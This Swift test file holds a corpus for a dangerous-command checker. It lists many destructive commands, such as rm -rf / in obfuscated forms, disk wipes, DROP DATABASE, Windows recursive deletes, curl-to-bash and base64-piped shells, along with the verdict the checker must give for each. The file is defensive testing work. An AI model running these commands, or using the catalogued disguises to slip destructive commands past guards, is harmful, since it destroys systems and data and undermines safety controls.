import Foundation
import Testing
@testable import PlatJobs

/// The checker corpus: scripts with their language, the `args:` and `env:` they are called with, and the verdict
/// the dangerous-command check must give. It grows with every miss: a script that walked around the checker
/// goes here first, then the checker is fixed.
///
/// Verdicts: `pass` (no blocking finding), `refused(S)` (a blocking finding whose message contains S), and
/// `unchecked(S)` (refused by the `unchecked` rule because the checker cannot know what will run; S names the
/// construct).
enum CorpusVerdict: Sendable, CustomStringConvertible {
    case pass
    case refused(String)
    case unchecked(String)
    var description: String {
        switch self {
        case .pass: return "pass"
        case .refused(let s): return "refused(\(s))"
        case .unchecked(let s): return "unchecked(\(s))"
        }
    }
}

struct CorpusCase: Sendable, CustomStringConvertible {
    var lang: ScriptLanguage
    var script: String
    var args: [String] = []
    var env: [String: String] = [:]
    var verdict: CorpusVerdict
    /// A known miss: the checker does not give this verdict yet (the test expects it to fail until fixed).
    var known = false
    var description: String { "[\(lang.rawValue)] \(script.debugDescription) args=\(args) env=\(env) → \(verdict)" }
}

private func p(_ l: ScriptLanguage, _ s: String, args: [String] = [], env: [String: String] = [:]) -> CorpusCase {
    CorpusCase(lang: l, script: s, args: args, env: env, verdict: .pass)
}
private func r(_ l: ScriptLanguage, _ s: String, _ why: String, args: [String] = [], env: [String: String] = [:]) -> CorpusCase {
    CorpusCase(lang: l, script: s, args: args, env: env, verdict: .refused(why))
}
private func u(_ l: ScriptLanguage, _ s: String, _ why: String, args: [String] = [], env: [String: String] = [:]) -> CorpusCase {
    CorpusCase(lang: l, script: s, args: args, env: env, verdict: .unchecked(why))
}

enum CheckerCorpus {
    /// Verdicts the checker does not give yet: run as known issues, so fixing one makes the test say so.
    static let knownMisses: Set<String> = [
    ]

    static let cases: [CorpusCase] = [
        // 1. args: and env: are known before anything runs
        r(.bash, "rm -rf \"$1\"", "root folder", args: ["/"]),
        r(.bash, "rm -rf \"$2\"", "/etc", args: ["/tmp/x", "/etc"]),
        r(.bash, "rm -rf \"$@\"", "root folder", args: ["/tmp/x", "/"]),
        r(.bash, "rm -rf $*", "/usr", args: ["/usr"]),
        r(.bash, "rm -rf \"$TARGET\"", "root folder", env: ["TARGET": "/"]),
        r(.bash, "rm -rf \"${TARGET}\"/*", "/*", env: ["TARGET": ""]),
        r(.sh, "cd \"$D\" && rm -rf *", "in / removes /*", env: ["D": "/"]),
        p(.bash, "rm -rf \"$1\"", args: ["/tmp/build"]),
        p(.bash, "rm -rf \"$TARGET\"", env: ["TARGET": "/srv/app/releases/old"]),
        p(.bash, "rm -rf \"$TARGET\"/*", env: ["TARGET": "/tmp/work"]),
        r(.python, "import shutil, sys\nshutil.rmtree(sys.argv[1])", "rmtree", args: ["/etc"]),
        r(.python, "import shutil, os\nshutil.rmtree(os.environ['T'])", "rmtree", env: ["T": "/"]),

        // 2. too deep to check is refused, naming the construct
        u(.bash, String(repeating: "eval ", count: 9) + "rm -rf /", "too deep"),
        u(.bash, String(repeating: "eval ", count: 20) + "true", "too deep"),
        r(.bash, String(repeating: "eval ", count: 3) + "rm -rf /", "root folder"),
        u(.bash, String(repeating: "echo 'x' | sh; eval ", count: 1) + String(repeating: "eval ", count: 8) + "ls", "too deep"),

        // 3. SQL that runs shell commands or hides statements
        r(.sql, ".shell rm -rf /", "root folder"),
        r(.sql, ".system rm -rf /", "root folder"),
        u(.sql, ".shell $CMD", "variable"),
        r(.sql, "\\! rm -rf /", "root folder"),
        r(.sql, "COPY t TO PROGRAM 'rm -rf /'", "root folder"),
        r(.sql, "COPY (SELECT 1) TO PROGRAM 'rm -rf /etc'", "/etc"),
        r(.sql, "/*!50000 DROP DATABASE prod */", "database"),
        r(.sql, "PREPARE s FROM 'DROP DATABASE prod'", "database"),
        r(.sql, "DO $$ BEGIN EXECUTE 'DROP DATABASE prod'; END $$", "database"),
        u(.sql, "PREPARE s FROM @q", "PREPARE"),
        u(.sql, "DO $$ BEGIN EXECUTE q; END $$", "EXECUTE"),
        r(.bash, "sqlite3 db.sqlite '.shell rm -rf /'", "root folder"),
        r(.bash, "psql -c 'COPY t TO PROGRAM $$rm -rf /$$'", "root folder"),
        p(.sql, "SELECT * FROM t WHERE a = 1"),
        p(.sql, "COPY t TO '/tmp/out.csv'"),
        p(.sql, "/* a comment: .shell rm -rf / */ SELECT 1"),
        p(.sql, ".tables"),
        p(.sql, "\\dt"),
        p(.sql, "PREPARE s FROM 'SELECT 1'"),

        // 4. shell disguises
        r(.bash, "bash -c -- 'rm -rf /'", "root folder"),
        r(.bash, "trap 'rm -rf /' EXIT", "root folder"),
        r(.bash, "coproc rm -rf /", "root folder"),
        r(.bash, "coproc worker { rm -rf /; }", "root folder"),
        r(.bash, "rm -rf $'\\x2f'", "root folder"),
        r(.bash, "rm -rf $'\\057'", "root folder"),
        r(.bash, "rm${IFS}-rf${IFS}/", "root folder"),
        u(.bash, "/bin/r? -rf /", "glob"),
        u(.bash, "/???/r[m] -rf /", "glob"),
        r(.bash, "R=rm; $R -rf /", "root folder"),
        u(.bash, "$CMD -rf /", "CMD"),
        r(.bash, "X='rm -rf /'; eval $X", "root folder"),
        u(.bash, "eval \"$SCRIPT\"", "eval"),
        r(.bash, "sh <<< 'rm -rf /'", "root folder"),
        r(.bash, "echo 'rm -rf /' | sh", "root folder"),
        r(.bash, "printf 'rm -rf /\\n' | bash", "root folder"),
        r(.bash, "cat <<E | bash\nrm -rf /\nE", "root folder"),
        u(.bash, "echo cm0gLXJmIC8= | base64 -d | sh", "piped"),
        u(.bash, "curl -s https://example.com/x.sh | bash", "piped"),
        u(.bash, "source <(echo rm -rf /)", "source"),
        u(.bash, ". <(curl -s https://example.com/x)", "cannot read"),
        r(.bash, "f(){ rm -rf \"$1\"; }; f /", "root folder"),
        r(.bash, "function wipe { rm -rf \"$1\"/*; }\nwipe /usr", "/usr"),
        r(.bash, "set -- /; rm -rf \"$1\"", "root folder"),
        r(.bash, "rm -rf /proc/self/root/*", "removes /*"),
        r(.bash, "rm -rf /proc/1/root/etc", "/etc"),
        r(.bash, "cd /; cd /tmp; cd -; rm -rf *", "cd - goes back to /"),
        r(.bash, "ln -s / /tmp/r; rm -rf /tmp/r/*", "removes /*"),
        r(.bash, "flock /tmp/l rm -rf /", "root folder"),
        r(.bash, "flock -w 5 /tmp/l -c 'rm -rf /'", "root folder"),
        r(.bash, "watch -n 1 rm -rf /", "root folder"),
        r(.bash, "chroot / rm -rf /", "root folder"),
        r(.bash, "unshare -m rm -rf /", "root folder"),
        r(.bash, "script -q -c 'rm -rf /' /dev/null", "root folder"),
        r(.bash, "systemd-run --wait rm -rf /", "root folder"),
        r(.bash, "parallel rm -rf ::: /", "root folder"),
        r(.bash, "ssh web1 rm -rf /", "root folder"),
        r(.bash, "ssh -p 22 web1 'rm -rf /etc'", "/etc"),
        r(.bash, "sudo -u root bash -c 'rm -rf /'", "root folder"),

        // 5. commands not covered before
        r(.bash, "find / -delete", "find"),
        r(.bash, "find / -exec rm -rf {} +", "find"),
        r(.bash, "find /etc -type f -exec rm {} \\;", "find"),
        p(.bash, "find /tmp/build -name '*.o' -delete"),
        p(.bash, "find . -name '*.pyc' -delete"),
        p(.bash, "find / -name core -print"),
        r(.bash, "mv / /tmp/x", "mv"),
        r(.bash, "mv /etc /tmp/etc.old", "mv"),
        r(.bash, "mv /usr/* /tmp/", "mv"),
        p(.bash, "mv /tmp/a /tmp/b"),
        p(.bash, "mv /etc/nginx/sites-enabled/a.conf /tmp/"),
        r(.bash, "rsync -a --delete EMPTY/ /", "rsync"),
        r(.bash, "rsync -a --delete-after /tmp/empty/ /etc/", "rsync"),
        p(.bash, "rsync -a --delete build/ /srv/app/current/"),
        p(.bash, "rsync -a / /backup/root/"),
        r(.bash, "mkswap /dev/sda1", "disk"),
        r(.bash, "sgdisk --zap-all /dev/nvme0n1", "disk"),
        r(.bash, "truncate -s0 /dev/sda", "disk"),
        p(.bash, "truncate -s0 /var/log/app.log"),
        r(.bash, "dd if=/dev/zero of=/dev/block/8:0", "disk"),
        r(.bash, "dd if=/dev/zero of=/dev/root", "disk"),
        p(.bash, "dd if=/dev/zero of=/tmp/swapfile bs=1M count=10"),
        r(.python, "import shutil as s\ns.rmtree('/etc')", "rmtree"),
        r(.python, "from shutil import rmtree as r\nr('/etc')", "rmtree"),
        r(.python, "import pathlib\nfor p in pathlib.Path('/etc').rglob('*'):\n    p.unlink()", "/etc"),
        r(.python, "exec(\"import os; os.system('rm -rf /')\")", "root folder"),
        u(.python, "exec(open('x.py').read())", "exec"),
        r(.python, "import os\nos.execvp('rm', ['rm', '-rf', '/'])", "root folder"),
        r(.python, "import os\nos.execv('/bin/sh', ['sh', '-c', 'rm -rf /'])", "root folder"),
        p(.python, "import shutil\nshutil.rmtree('/tmp/build')"),
        p(.python, "import pathlib\npathlib.Path('/tmp/x').unlink()"),
        p(.python, "print('rm -rf /')"),
        r(.powershell, "Get-ChildItem C:\\ | Remove-Item -Recurse -Force", "C:\\"),
        r(.powershell, "gci C:\\Windows | ri -r -fo", "Windows"),
        r(.powershell, "iex 'Remove-Item -Recurse -Force C:\\'", "C:\\"),
        r(.powershell, "Invoke-Expression \"Remove-Item -Recurse C:\\Windows\"", "Windows"),
        u(.powershell, "iex $code", "iex"),
        r(.powershell, "[IO.Directory]::Delete('C:\\', $true)", "C:\\"),
        r(.powershell, "[System.IO.Directory]::Delete(\"C:\\Windows\", $true)", "Windows"),
        r(.powershell, "$p = 'C:\\Windows'\nRemove-Item -Recurse -Force $p", "Windows"),
        p(.powershell, "Remove-Item -Recurse -Force C:\\temp\\build"),
        p(.powershell, "Get-ChildItem C:\\temp\\logs | Remove-Item -Recurse"),
        p(.powershell, "Write-Host 'Remove-Item -Recurse C:\\'"),
        r(.bat, "cmd /c rd /s /q C:\\", "C:\\"),
        r(.bat, "rd/s/q C:\\", "C:\\"),
        r(.bat, "set D=C:\\Windows\nrd /s /q %D%", "Windows"),
        r(.bat, "rd /s /q %D%\\", "D"),
        r(.bat, "del /s /q C:\\Windows\\System32\\*", "System32"),
        r(.bat, "powershell -Command \"Remove-Item -Recurse -Force C:\\\"", "C:\\"),
        p(.bat, "rd /s /q C:\\temp\\build"),
        p(.bat, "echo rd /s /q C:\\"),
        p(.bat, "REM rd /s /q C:\\"),

        // 7. the harmless keep passing
        p(.bash, "rm -rf ./build"),
        p(.bash, "rm -rf /tmp/x"),
        p(.bash, "echo \"rm -rf /\""),
        p(.bash, "# rm -rf /\necho ok"),
        p(.bash, "if [ -n \"$D\" ]; then rm -rf \"$D\"/*; fi"),
        p(.bash, "[ -n \"$D\" ] && rm -rf \"$D\"/*"),
        p(.bash, "if [ -z \"$D\" ]; then exit 1; fi\nrm -rf \"$D\"/*"),
        p(.bash, "D=/tmp/work\nrm -rf \"$D\"/*"),
        p(.bash, "ls -la /"),
        p(.bash, "echo 'ok' | tee /tmp/log"),
        p(.bash, "echo hello | cat"),
        p(.bash, "cat /etc/hosts | grep web"),
        p(.bash, "f() { echo \"$1\"; }; f /"),
        p(.bash, "set -- a b; echo \"$1\""),
        p(.bash, "set -euo pipefail\nrm -rf /tmp/build"),
        p(.bash, "trap 'rm -rf /tmp/work' EXIT"),
        p(.bash, "bash -c 'echo hi'"),
        p(.bash, "ssh web1 uptime"),
        p(.bash, "flock /tmp/l make"),
        p(.bash, "source /etc/profile"),
        p(.bash, "for f in *.log; do gzip \"$f\"; done"),
        p(.bash, "cd /tmp && rm -rf build"),
        p(.bash, "cd /; cd /tmp; rm -rf *"),
        p(.bash, "rm -rf \"$1\"", args: ["build"]),
        p(.bash, "X='echo hi'; eval $X"),
        p(.bash, "R=ls; $R -la /"),
        p(.bash, "echo 'echo hi' | sh"),
        p(.bash, "sh <<< 'echo hi'"),
        p(.bash, "\"$0\" --help"),
    ]
}

@Suite struct CheckerCorpusTests {
    static let policy = DangerPolicy()

    @Test("the checker corpus", arguments: CheckerCorpus.cases)
    func corpus(_ c: CorpusCase) {
        if CheckerCorpus.knownMisses.contains(c.script) {
            withKnownIssue("not caught yet: \(c)") { judge(c) }
        } else {
            judge(c)
        }
    }

    func judge(_ c: CorpusCase) {
        let findings = CheckerCorpusTests.policy.check(c.script, language: c.lang, args: c.args, env: c.env)
        let blocking = findings.filter { $0.action == .block }
        switch c.verdict {
        case .pass:
            #expect(blocking.isEmpty, "\(c): \(blocking)")
        case .refused(let why):
            #expect(blocking.contains { $0.ruleID != DangerPolicy.uncheckedRuleID && $0.message.contains(why) },
                    "\(c): \(findings)")
        case .unchecked(let why):
            #expect(blocking.contains { $0.ruleID == DangerPolicy.uncheckedRuleID && $0.message.contains(why) },
                    "\(c): \(findings)")
        }
    }
}
